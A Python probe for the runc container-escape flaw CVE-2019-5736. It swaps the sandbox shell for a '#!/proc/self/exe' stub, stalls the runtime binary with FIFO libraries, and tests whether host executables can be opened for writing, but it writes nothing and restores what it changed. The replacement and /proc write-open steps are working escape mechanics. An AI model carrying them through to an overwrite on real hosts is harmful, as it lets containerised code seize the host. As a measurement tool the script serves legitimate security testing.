"""CVE-2019-5736 from inside: replaces the shell that the service starts (/bin/sh, then
bash for a terminal) with `#!/proc/self/exe`, so that the next exec or terminal makes the
kernel run whatever binary entered the sandbox (the OCI runtime). A FIFO in place of a
library that binary needs and the sandbox lacks keeps it parked in the dynamic loader,
so it can be inspected at leisure. Every process whose executable is not a file of this
sandbox is then opened for writing through /proc/<pid>/exe in every way known; nothing is
ever written. Restores the shells and removes the FIFOs before it ends.
Argument: base64 JSON {"phases": [[shell to swap, at most seconds, seconds after the first catch], ...]}.
A phase also ends 1 s after a binary was parked in the loader.
Writes /tmp/exe-watch.phase<N> when phase N is over and /tmp/exe-watch.json at the end."""
import base64, json, os, stat, sys, time

def _refuse_on_host():
    """These probes attack the machine they run on: only ever inside a sandbox, whose root is
    an unprivileged uid of the host (a uid_map not starting with "0 0"), or inside gVisor,
    whose user-space kernel shows its own identity map and names itself Linux 4.4.0 of
    "#1 SMP Sun Jan 10 15:06:54 PST 2016" (a host kernel never does)."""
    with open('/proc/self/uid_map') as f:
        first = f.read().split()
    u = os.uname()
    gvisor = u.release == '4.4.0' and u.version.startswith('#1 SMP Sun Jan 10 15:06:54 PST 2016')
    if first[:2] == ['0', '0'] and not gvisor:
        raise SystemExit('refusing to run outside a sandbox')


_refuse_on_host()

spec = json.loads(base64.b64decode(sys.argv[1]))
me = os.getpid()
LIBDIR = '/usr/lib/x86_64-linux-gnu'
LIBS = ['libyajl.so.2', 'libseccomp.so.2', 'libcap.so.2', 'libsystemd.so.0', 'libgcrypt.so.20', 'liblzma.so.5',
        'libzstd.so.1', 'liblz4.so.1', 'libgpg-error.so.0', 'libprotobuf-c.so.1', 'libcriu.so.2']
fifos = []
caught = []
direct = {}


def try_open(path, flags):
    try:
        fd = os.open(path, flags)
        os.close(fd)
        return 'OPENED'
    except OSError as e:
        return e.errno


def attack(pid):
    link = f'/proc/{pid}/exe'
    r = {}
    for name, fl in (('wronly', os.O_WRONLY), ('rdwr', os.O_RDWR), ('append', os.O_WRONLY | os.O_APPEND), ('trunc', os.O_WRONLY | os.O_TRUNC)):
        if name == 'trunc' and any(v == 'OPENED' for v in r.values()):
            continue  # never truncate a file that already opened for writing
        r[name] = try_open(link, fl)
    try:
        fd = os.open(link, os.O_PATH)
        try:
            r['opath_stat'] = list(os.fstat(fd))[:7]
        except OSError as e:
            r['opath_stat'] = e.errno
        r['opath_reopen_wr'] = try_open(f'/proc/self/fd/{fd}', os.O_WRONLY)
        os.close(fd)
    except OSError as e:
        r['opath'] = e.errno
    r['rdonly'] = try_open(link, os.O_RDONLY)
    r['outside'] = outside_links(pid)
    return r


ROOT = os.stat('/')


def outside_links(pid):
    """root, cwd and fds of pid that are readable here and are not the same file at the same
    path inside the sandbox (a runtime process still holding the host's root or files)."""
    out = []
    try:
        st = os.stat(f'/proc/{pid}/root')
        if (st.st_dev, st.st_ino) != (ROOT.st_dev, ROOT.st_ino):
            out.append('root')
    except OSError:
        pass
    links = [f'/proc/{pid}/cwd']
    try:
        links += [f'/proc/{pid}/fd/{n}' for n in os.listdir(f'/proc/{pid}/fd')]
    except OSError:
        pass
    for l in links:
        try:
            t = os.readlink(l)
            real = os.stat(l)
        except OSError:
            continue
        if not t.startswith('/') or t.endswith(' (deleted)'):
            continue
        try:
            here = os.stat(t)
            if (here.st_dev, here.st_ino) == (real.st_dev, real.st_ino):
                continue
        except OSError:
            pass
        out.append(l + ' -> ' + t)
    return out


def foreign(pid):
    """(is_foreign, exe text) for a pid; None when it is gone."""
    link = f'/proc/{pid}/exe'
    try:
        exe = os.readlink(link)
    except OSError as e:
        if e.errno in (2, 3):
            return None
        return True, 'readlink errno %d' % e.errno
    try:
        here = os.stat(exe)
        if not stat.S_ISREG(here.st_mode):
            return True, exe
    except OSError:
        return True, exe
    try:
        real = os.stat(link)
    except OSError as e:
        return (None if e.errno in (2, 3) else (True, exe))
    return ((real.st_dev, real.st_ino) != (here.st_dev, here.st_ino)), exe


def status(pid):
    try:
        return {l.split(':')[0]: l.split(':', 1)[1].strip() for l in open(f'/proc/{pid}/status') if l.startswith(('Name', 'Uid', 'PPid'))}
    except OSError:
        return {}


def release():
    for f in fifos:
        try:
            fd = os.open(f, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b'\0' * 64)
            os.close(fd)
        except OSError:
            pass


direct['pid1 exe'] = attack(1)
for name in os.listdir('/dev'):  # host binaries bound into /dev (the init or exec agent)
    if stat.S_ISREG(os.lstat('/dev/' + name).st_mode):
        direct['/dev/' + name] = {'rdwr': try_open('/dev/' + name, os.O_RDWR), 'wronly': try_open('/dev/' + name, os.O_WRONLY)}
for lib in LIBS:
    p = os.path.join(LIBDIR, lib)
    if not os.path.lexists(p):
        os.mkfifo(p)
        fifos.append(p)
sigs = set()
try:
    for n, (target, seconds, settle) in enumerate(spec['phases']):
        real = target + '.escape-real'
        os.rename(target, real)
        with open(target, 'w') as f:
            f.write('#!/proc/self/exe\n')
        os.chmod(target, 0o755)
        try:
            deadline = time.time() + seconds
            parked_at = first_at = 0.0
            while time.time() < deadline and not (parked_at and time.time() > parked_at + 1.0) and not (first_at and time.time() > first_at + settle):
                for p in os.listdir('/proc'):
                    if not p.isdigit() or int(p) in (1, me):
                        continue
                    f = foreign(p)
                    if not f or not f[0]:
                        continue
                    st = status(p)
                    sig = (p, f[1], st.get('Uid'))
                    if sig in sigs:
                        continue
                    sigs.add(sig)
                    caught.append({'phase': n, 'pid': p, 'exe': f[1], 'status': st, 'tries': attack(p)})
                    first_at = first_at or time.time()
                    if not f[1].startswith('readlink'):
                        parked_at = parked_at or time.time()  # the runtime's binary, parked in the loader: let it go
                        release()
                time.sleep(0.002)
        finally:
            os.replace(real, target)
            release()
        open(f'/tmp/exe-watch.phase{n}', 'w').close()
finally:
    release()
    for f in fifos:
        try:
            os.unlink(f)
        except OSError:
            pass
with open('/tmp/exe-watch.json.tmp', 'w') as f:
    json.dump({'caught': caught, 'direct': direct, 'fifos': fifos}, f)
os.rename('/tmp/exe-watch.json.tmp', '/tmp/exe-watch.json')
